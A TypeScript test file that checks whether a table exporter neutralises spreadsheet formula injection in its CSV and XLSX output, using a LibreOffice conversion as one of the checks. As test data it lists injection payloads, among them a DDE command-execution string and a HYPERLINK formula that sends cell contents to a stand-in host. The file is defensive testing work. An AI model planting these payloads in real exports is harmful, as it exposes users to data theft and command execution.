import { describe, expect, it } from "vitest";
import { unzipSync } from "fflate";
import Papa from "papaparse";
import type { TakenTable } from "@/lib/taken-table";
import { bytesOf, readTable } from "@/lib/testing/taken-tables";
import { converted, has } from "@/lib/testing/word/libre-office";
import { often } from "@/lib/testing/how-often";

/** 300 texts that a spreadsheet would run, in every place of a table that is taken away. */

const signs = [..."=+-@\t\r\0＝＋－＠"];
const payloads = [
  "1+1",
  "SUM(A1:A9)",
  'HYPERLINK("http://x.example/?"&A1,"点我")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("http://x.example")',
  "IMPORTXML(A1)",
  "-1",
  "A1",
  'DDE("a";"b";"c")',
  "村里人手不够",
];
const turns: ((text: string) => string)[] = [(text) => text, (text) => `${text}"`, (text) => `${text}\n=1+1`];
const texts = signs.flatMap((sign) => payloads.flatMap((rest) => turns.map((turn) => turn(`${sign}${rest}`))));
const columns = 7;

/** Each text in each column, as a title and as a note. */
const table: TakenTable = {
  name: { project: "=1+1", table: "表", day: "2026-11-30" },
  columns: texts.slice(0, columns).map((title) => ({ title, width: 10 })),
  rows: texts.map((_, row) => Array.from({ length: columns }, (_each, at) => texts[(row + at) % texts.length] ?? "")),
  notes: texts,
  notesName: "说明",
  cut: "",
};
const runs = /^(?!-\d+(?:\.\d+)?$)[=+\-@\t\r\0＝＋－＠]/;

it("are at least 300", () => expect(texts.length).toBeGreaterThanOrEqual(300));

describe("no cell is a formula", () => {
  it("of CSV: it begins with an apostrophe", async () => {
    const { head, rows, notes } = await readTable(table, "csv");
    expect(rows).toHaveLength(texts.length);
    expect([head, ...rows, notes].flat().filter((cell) => runs.test(cell))).toEqual([]);
  });

  it("of a workbook: its cells are texts, as they came", async () => {
    const files = Object.entries(unzipSync(await bytesOf(table, "xlsx")));
    const sheets = files.filter(([name]) => name.startsWith("xl/worksheets/"));
    expect(sheets).toHaveLength(2);
    for (const [, bytes] of sheets)
      expect(/<f[ >]|<c [^>]*\bt="(?!inlineStr")/.exec(new TextDecoder().decode(bytes))).toBeNull();
  });
});

const sheetOf = (bytes: Uint8Array, from: "csv" | "xlsx") =>
  converted(new Map([["table", bytes]]), "fods", from)
    .get("table")
    ?.toString("utf8");
const known = "村里人手不够";
/** What LibreOffice makes of a table that nobody guards. It takes seconds, so only the campaign asks; Writer cannot. */
const unguarded =
  often(1) > 1 && has("soffice")
    ? sheetOf(new TextEncoder().encode(Papa.unparse([["=1+1"], [known]])), "csv")
    : undefined;

describe.runIf(unguarded)("LibreOffice", () => {
  const formulasIn = (sheet = "") => {
    expect(sheet).toContain(known);
    return [...sheet.matchAll(/table:formula="([^"]*)"/g)].map((match) => match[1]);
  };

  it("finds the formula of a table that nobody guards", () => expect(formulasIn(unguarded)).toHaveLength(1));

  it.each(["csv", "xlsx"] as const)(
    "finds none in ours: %s",
    async (format) => expect(formulasIn(sheetOf(await bytesOf(table, format), format))).toEqual([]),
    300_000,
  );
});
